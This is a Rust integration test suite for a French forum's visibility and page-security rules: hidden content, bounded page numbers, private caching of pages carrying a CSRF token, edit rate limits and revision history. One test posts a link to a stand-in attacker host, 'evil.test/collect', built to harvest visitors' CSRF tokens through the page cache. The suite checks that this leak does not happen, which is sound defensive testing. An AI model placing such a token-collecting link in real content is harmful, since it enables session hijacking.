//! Forum visibility and page-level security: hidden content stays hidden on every read and write
//! path (quotes, replies, permalinks, edits), page numbers are bounded, the visitors' page cache
//! cannot be made to leak CSRF tokens, pages carrying a token are never stored by shared caches,
//! and edits are rate-limited and keep a bounded history.

use reqwest::{Client, Method, StatusCode};
use serde_json::{json, Value};

use crate::helpers::{browser, csrf_token, Page, TestApp};

/// The fixed marker the visitors' page cache used to stand in for a CSRF token.
const OLD_CSRF_MARKER: &str = "__vigie_csrf_token__";

/// A browser session and an API token for a new, verified member.
async fn member(app: &TestApp, name: &str) -> (Client, String) {
    let client = browser();
    app.register_with(&client, name).await;
    let token = app.api_login(name).await;
    (client, token)
}

/// A moderation call through the API, expected to succeed.
async fn moderate(app: &TestApp, token: &str, path: &str, body: Value) {
    let res = app.api(Method::POST, path, Some(token), Some(body)).await;
    assert_eq!(res.status, StatusCode::OK, "{path}: {}", res.body);
}

/// The value of the visitor's CSRF cookie set by `page`.
fn csrf_cookie(page: &Page) -> String {
    page.headers
        .get_all("set-cookie")
        .iter()
        .filter_map(|v| v.to_str().ok())
        .find_map(|c| {
            let (name, rest) = c.split_once('=')?;
            name.ends_with("vigie_csrf")
                .then(|| rest.split(';').next().unwrap_or_default().to_owned())
        })
        .expect("the visitor gets a CSRF cookie")
}

#[tokio::test]
async fn hidden_posts_and_threads_stay_hidden_from_quotes_replies_permalinks_and_edits() {
    let app = TestApp::spawn().await;
    let admin = app.admin_token().await;
    let (author, _) = member(&app, "autrice_cachee").await;
    let (reader, reader_token) = member(&app, "lecteur_curieux").await;

    // A hidden post in a visible thread: nobody else quotes it.
    let thread = app
        .new_thread_with(&author, "general", "Un sujet ouvert", "Premier message", "")
        .await;
    app.reply_with(&author, thread, "Adresse personnelle secrète")
        .await;
    let hidden_post = app.post_ids(thread).await[1];
    moderate(
        &app,
        &admin,
        &format!("/api/v1/posts/{hidden_post}/moderate"),
        json!({"action": "hide", "reason": "Données personnelles"}),
    )
    .await;
    let quote = app
        .get_with(&reader, &format!("/t/{thread}/reply?quote={hidden_post}"))
        .await;
    assert_eq!(quote.status, StatusCode::NOT_FOUND);
    assert!(!quote.body.contains("Adresse personnelle secrète"));
    // Its author still may.
    let own = app
        .get_with(&author, &format!("/t/{thread}/reply?quote={hidden_post}"))
        .await;
    assert_eq!(own.status, StatusCode::OK);
    assert!(own.body.contains("Adresse personnelle secrète"));

    // A hidden thread: no reply form, no reply (web or API), no permalink, no edit.
    let secret = app
        .new_thread_with(&author, "general", "Titre très secret", "Ouverture", "")
        .await;
    app.reply_with(&reader, secret, "Ma réponse d’avant").await;
    let ids = app.post_ids(secret).await;
    let (opening, readers_post) = (ids[0], ids[1]);
    moderate(
        &app,
        &admin,
        &format!("/api/v1/threads/{secret}/moderate"),
        json!({"action": "hide", "reason": "Hors charte"}),
    )
    .await;
    let form = app.get_with(&reader, &format!("/t/{secret}/reply")).await;
    assert_eq!(form.status, StatusCode::NOT_FOUND);
    assert!(!form.body.contains("Titre très secret"));
    let token = csrf_token(&app.get_with(&reader, "/").await.body);
    let res = reader
        .post(app.url(&format!("/t/{secret}/reply")))
        .form(&[("body", "Je réponds quand même"), ("csrf_token", &token)])
        .send()
        .await
        .expect("POST");
    assert_eq!(res.status(), StatusCode::NOT_FOUND);
    let res = app
        .api(
            Method::POST,
            &format!("/api/v1/threads/{secret}/posts"),
            Some(&reader_token),
            Some(json!({"body": "Par l’API aussi"})),
        )
        .await;
    assert_eq!(res.status, StatusCode::NOT_FOUND, "{}", res.body);
    for path in [
        format!("/p/{opening}"),
        format!("/p/{readers_post}"),
        format!("/p/{readers_post}/edit"),
    ] {
        let page = app.get_with(&reader, &path).await;
        assert_eq!(page.status, StatusCode::NOT_FOUND, "{path}");
    }
    let res = app
        .api(
            Method::PATCH,
            &format!("/api/v1/posts/{readers_post}"),
            Some(&reader_token),
            Some(json!({"body": "Modifiée en cachette"})),
        )
        .await;
    assert_eq!(res.status, StatusCode::NOT_FOUND, "{}", res.body);
    // Nothing was written.
    let admin_view = app
        .api(
            Method::GET,
            &format!("/api/v1/threads/{secret}/posts"),
            Some(&admin),
            None,
        )
        .await;
    assert_eq!(admin_view.status, StatusCode::OK);
    assert_eq!(admin_view.json()["posts"].as_array().map(Vec::len), Some(2));
    assert!(!admin_view.body.contains("Modifiée en cachette"));

    // The board's staff keep their abilities.
    let res = app
        .api(
            Method::POST,
            &format!("/api/v1/threads/{secret}/posts"),
            Some(&admin),
            Some(json!({"body": "Note de modération"})),
        )
        .await;
    assert_eq!(res.status, StatusCode::CREATED, "{}", res.body);
}

#[tokio::test]
async fn page_numbers_past_the_last_page_are_not_found() {
    let app = TestApp::spawn().await;
    let (author, _) = member(&app, "pagineuse").await;
    let thread = app
        .new_thread_with(&author, "general", "Un sujet court", "Un seul message", "")
        .await;
    for page in ["2", "461168601842738791", "9223372036854775807"] {
        for path in [
            format!("/t/{thread}?page={page}"),
            format!("/t/{thread}/un-sujet-court?page={page}"),
        ] {
            for client in [&browser(), &author] {
                let res = app.get_with(client, &path).await;
                assert_eq!(res.status, StatusCode::NOT_FOUND, "{path}");
                assert!(!res.body.contains("Un seul message"), "{path}");
            }
        }
    }
    assert_eq!(
        app.get(&format!("/t/{thread}?page=1")).await.status,
        StatusCode::OK
    );
    // The API's cursor is bounded too.
    let res = app
        .api(
            Method::GET,
            &format!("/api/v1/threads/{thread}/posts?cursor=9223372036854775807"),
            None,
            None,
        )
        .await;
    assert_eq!(res.status, StatusCode::OK, "{}", res.body);
    assert_eq!(res.json()["posts"], json!([]));
}

#[tokio::test]
async fn a_post_cannot_make_the_page_cache_leak_visitors_csrf_tokens() {
    let app = TestApp::spawn().await;
    let (author, _) = member(&app, "pieges_a_jetons").await;
    let thread = app
        .new_thread_with(&author, "general", "Un lien piégé", "Bonjour", "")
        .await;
    let body =
        format!("[voir](https://evil.test/collect?t={OLD_CSRF_MARKER}) et {OLD_CSRF_MARKER}");
    let res = app.reply_with(&author, thread, &body).await;
    assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);

    let visitor = browser();
    let first = app.get_with(&visitor, &format!("/t/{thread}")).await;
    assert_eq!(first.status, StatusCode::OK);
    let token = csrf_cookie(&first);
    let second = app.get_with(&visitor, &format!("/t/{thread}")).await;
    assert_eq!(second.status, StatusCode::OK);
    assert!(
        second.statements() < first.statements(),
        "the second view comes from the cache"
    );
    for page in [&first, &second] {
        assert!(page.body.contains("https://evil.test/collect?t="));
        assert!(
            !page
                .body
                .contains(&format!("https://evil.test/collect?t={token}")),
            "the visitor's token went into the link"
        );
        // The token is where it belongs: in the page's forms.
        assert_eq!(csrf_token(&page.body), token);
    }
}

#[tokio::test]
async fn visitor_pages_with_a_csrf_token_are_private() {
    let app = TestApp::spawn().await;
    let (author, _) = member(&app, "auteur_prive").await;
    let thread = app
        .new_thread_with(&author, "general", "Un sujet public", "Bonjour", "")
        .await;
    let visitor = browser();
    for path in ["/".to_owned(), format!("/t/{thread}")] {
        // First render, then from the visitors' page cache.
        for _ in 0..2 {
            let page = app.get_with(&visitor, &path).await;
            assert_eq!(page.status, StatusCode::OK);
            assert!(!csrf_token(&page.body).is_empty());
            let cache_control = page
                .headers
                .get("cache-control")
                .and_then(|v| v.to_str().ok())
                .unwrap_or_default();
            assert!(
                cache_control.contains("private") && cache_control.contains("no-store"),
                "{path}: Cache-Control {cache_control:?}"
            );
            let vary: Vec<String> = page
                .headers
                .get_all("vary")
                .iter()
                .filter_map(|v| v.to_str().ok())
                .map(str::to_lowercase)
                .collect();
            assert!(
                vary.iter().any(|v| v.contains("cookie")),
                "{path}: Vary {vary:?}"
            );
        }
    }
}

#[tokio::test]
async fn edits_past_the_hourly_limit_are_refused_and_the_text_is_kept() {
    let app = TestApp::spawn().await;
    let admin = app.admin_token().await;
    let (author, author_token) = member(&app, "retoucheuse").await;
    let thread = app
        .new_thread_with(&author, "general", "Sujet à retoucher", "Version zéro", "")
        .await;
    let post = app.post_ids(thread).await[0];
    let res = app
        .api(
            Method::PATCH,
            "/api/v1/admin/settings",
            Some(&admin),
            Some(json!({"member_posts_per_hour": 2})),
        )
        .await;
    assert_eq!(res.status, StatusCode::OK, "{}", res.body);
    let edit_path = format!("/p/{post}/edit");
    for i in 1..=2 {
        let text = format!("Version {i}");
        let res = app
            .post_form_with(&author, &edit_path, &edit_path, &[("body", &text)])
            .await;
        assert_eq!(res.status, StatusCode::SEE_OTHER, "edit {i}: {}", res.body);
    }
    let res = app
        .post_form_with(
            &author,
            &edit_path,
            &edit_path,
            &[("body", "Une troisième version de trop")],
        )
        .await;
    assert_eq!(res.status, StatusCode::TOO_MANY_REQUESTS, "{}", res.body);
    assert!(res.headers.contains_key("retry-after"));
    assert!(res.body.contains("Une troisième version de trop"));
    let res = app
        .api(
            Method::PATCH,
            &format!("/api/v1/posts/{post}"),
            Some(&author_token),
            Some(json!({"body": "Par l’API, de trop"})),
        )
        .await;
    assert_eq!(res.status, StatusCode::TOO_MANY_REQUESTS, "{}", res.body);
    assert!(res.headers.contains_key("retry-after"));
    let page = app.get(&format!("/t/{thread}")).await;
    assert!(page.body.contains("Version 2"));
    assert!(!page.body.contains("de trop"));
}

#[tokio::test]
async fn a_post_keeps_at_most_its_fifty_latest_revisions() {
    let app = TestApp::spawn().await;
    let _admin = app.admin_token().await;
    let (_, author_token) = member(&app, "perfectionniste").await;
    let res = app
        .api(
            Method::POST,
            "/api/v1/boards/general/threads",
            Some(&author_token),
            Some(json!({"title": "Texte retravaillé", "body": "Texte d’origine"})),
        )
        .await;
    assert_eq!(res.status, StatusCode::CREATED, "{}", res.body);
    let post = res.json()["post_id"].as_i64().expect("post id");
    for i in 1..=55 {
        let res = app
            .api(
                Method::PATCH,
                &format!("/api/v1/posts/{post}"),
                Some(&author_token),
                Some(json!({"body": format!("Retouche numéro {i}.")})),
            )
            .await;
        assert_eq!(res.status, StatusCode::OK, "edit {i}: {}", res.body);
    }
    let staff = browser();
    app.login_with(&staff, "root_admin").await;
    let history = app.get_with(&staff, &format!("/p/{post}/history")).await;
    assert_eq!(history.status, StatusCode::OK);
    let shown = history.body.matches("class=\"post revision\"").count();
    assert_eq!(shown, 50, "the 50 latest revisions are kept");
    assert!(history.body.contains("Retouche numéro 54."));
    assert!(history.body.contains("Retouche numéro 5."));
    assert!(!history.body.contains("Retouche numéro 4."));
    assert!(!history.body.contains("Texte d’origine"));
}

/// A notification about a post a moderator hid (or in a thread they hid) leaves the list and the
/// unread count: the notifications page must not show the title or author of hidden content.
#[tokio::test]
async fn notifications_about_hidden_content_leave_the_list_and_the_count() {
    let app = TestApp::spawn().await;
    let admin = app.admin_token().await;
    let alice = app.api_user("alice_notif").await;
    let bob = app.api_user("bob_notif").await;
    let thread = app
        .api(
            Method::POST,
            "/api/v1/boards/general/threads",
            Some(&alice),
            Some(json!({"title": "Caméras au marché", "body": "Qui en sait plus ?"})),
        )
        .await;
    assert_eq!(thread.status, StatusCode::CREATED, "{}", thread.body);
    let thread_id = thread.json()["id"].as_i64().expect("thread id");
    let mut replies = Vec::new();
    for body in ["Première réponse", "Seconde réponse"] {
        let reply = app
            .api(
                Method::POST,
                &format!("/api/v1/threads/{thread_id}/posts"),
                Some(&bob),
                Some(json!({ "body": body })),
            )
            .await;
        assert_eq!(reply.status, StatusCode::CREATED, "{}", reply.body);
        replies.push(reply.json()["id"].as_i64().expect("reply id"));
    }
    app.settle(&admin).await;
    let listed = |page: &Page| -> Vec<i64> {
        page.json()["notifications"]
            .as_array()
            .expect("a list")
            .iter()
            .filter_map(|n| n["post_id"].as_i64())
            .collect()
    };
    let unread = |page: &Page| -> usize {
        page.json()["notifications"]
            .as_array()
            .expect("a list")
            .iter()
            .filter(|n| n["unread"] == json!(true))
            .count()
    };
    let before = app
        .api(Method::GET, "/api/v1/notifications", Some(&alice), None)
        .await;
    assert_eq!(
        listed(&before),
        vec![replies[1], replies[0]],
        "{}",
        before.body
    );

    let hide = app
        .api(
            Method::POST,
            &format!("/api/v1/posts/{}/moderate", replies[0]),
            Some(&admin),
            Some(json!({"action": "hide", "reason": "hors sujet"})),
        )
        .await;
    assert_eq!(hide.status, StatusCode::OK, "{}", hide.body);
    let after_post = app
        .api(Method::GET, "/api/v1/notifications", Some(&alice), None)
        .await;
    assert_eq!(listed(&after_post), vec![replies[1]], "{}", after_post.body);
    assert_eq!(unread(&after_post), 1);

    let hide_thread = app
        .api(
            Method::POST,
            &format!("/api/v1/threads/{thread_id}/moderate"),
            Some(&admin),
            Some(json!({"action": "hide", "reason": "doublon"})),
        )
        .await;
    assert_eq!(hide_thread.status, StatusCode::OK, "{}", hide_thread.body);
    let after_thread = app
        .api(Method::GET, "/api/v1/notifications", Some(&alice), None)
        .await;
    assert!(listed(&after_thread).is_empty(), "{}", after_thread.body);
    // The badge on every page counts what the list shows: nothing unread is left.
    let alice_browser = browser();
    app.login_with(&alice_browser, "alice_notif").await;
    let home = app.get_with(&alice_browser, "/notifications").await;
    assert!(
        !home.body.contains("Caméras au marché"),
        "the hidden thread's title is not shown"
    );
    assert!(
        !home.body.contains("class=\"count\""),
        "no unread count is shown"
    );
}

/// API answers kept for everyone who reads them alike never show a hidden post's text to those
/// who may not read it; its author and the staff still get it; a new post is in the next answer.
#[tokio::test]
async fn kept_api_answers_follow_each_readers_rights() {
    let app = TestApp::spawn().await;
    let admin = app.admin_token().await;
    let (author, author_token) = member(&app, "autrice_api").await;
    let (_, reader_token) = member(&app, "lecteur_api").await;
    let thread = app
        .new_thread_with(&author, "general", "Sujet lu par l’API", "Ouverture", "")
        .await;
    app.reply_with(&author, thread, "Texte bientôt masqué")
        .await;
    let path = format!("/api/v1/threads/{thread}/posts");
    let first = app.api(Method::GET, &path, None, None).await;
    let second = app.api(Method::GET, &path, None, None).await;
    assert_eq!(second.status, StatusCode::OK);
    assert_eq!(second.statements(), 1, "a kept answer costs the versions");
    assert_eq!(first.json(), second.json());
    let as_member = app.api(Method::GET, &path, Some(&reader_token), None).await;
    assert_eq!(as_member.statements(), 2, "the token, then the versions");
    assert_eq!(as_member.json(), first.json());

    let hidden = app.post_ids(thread).await[1];
    moderate(
        &app,
        &admin,
        &format!("/api/v1/posts/{hidden}/moderate"),
        json!({"action": "hide", "reason": "Hors sujet"}),
    )
    .await;
    for token in [None, Some(reader_token.as_str()), None, Some(&reader_token)] {
        let res = app.api(Method::GET, &path, token, None).await;
        assert_eq!(res.status, StatusCode::OK);
        assert!(!res.body.contains("Texte bientôt masqué"), "{}", res.body);
        assert_eq!(res.json()["posts"][1]["hidden"], true);
        assert_eq!(res.json()["posts"][1]["body_html"], Value::Null);
    }
    for token in [&author_token, &admin, &author_token] {
        let res = app.api(Method::GET, &path, Some(token), None).await;
        assert!(res.body.contains("Texte bientôt masqué"), "{}", res.body);
    }
    let res = app.api(Method::GET, &path, Some(&reader_token), None).await;
    assert!(!res.body.contains("Texte bientôt masqué"), "{}", res.body);

    app.reply_with(&author, thread, "Encore un mot").await;
    let res = app.api(Method::GET, &path, None, None).await;
    assert!(res.body.contains("Encore un mot"));

    // A board's list reads the same for everyone: kept too, and renewed by a new thread.
    let list = "/api/v1/boards/general/threads";
    app.api(Method::GET, list, None, None).await;
    let kept = app.api(Method::GET, list, Some(&reader_token), None).await;
    assert_eq!(kept.statements(), 2);
    assert!(kept.body.contains("Sujet lu par l’API"));
    app.new_thread_with(&author, "general", "Un autre sujet", "Bonjour", "")
        .await;
    let renewed = app.api(Method::GET, list, None, None).await;
    assert!(renewed.body.contains("Un autre sujet"));
}
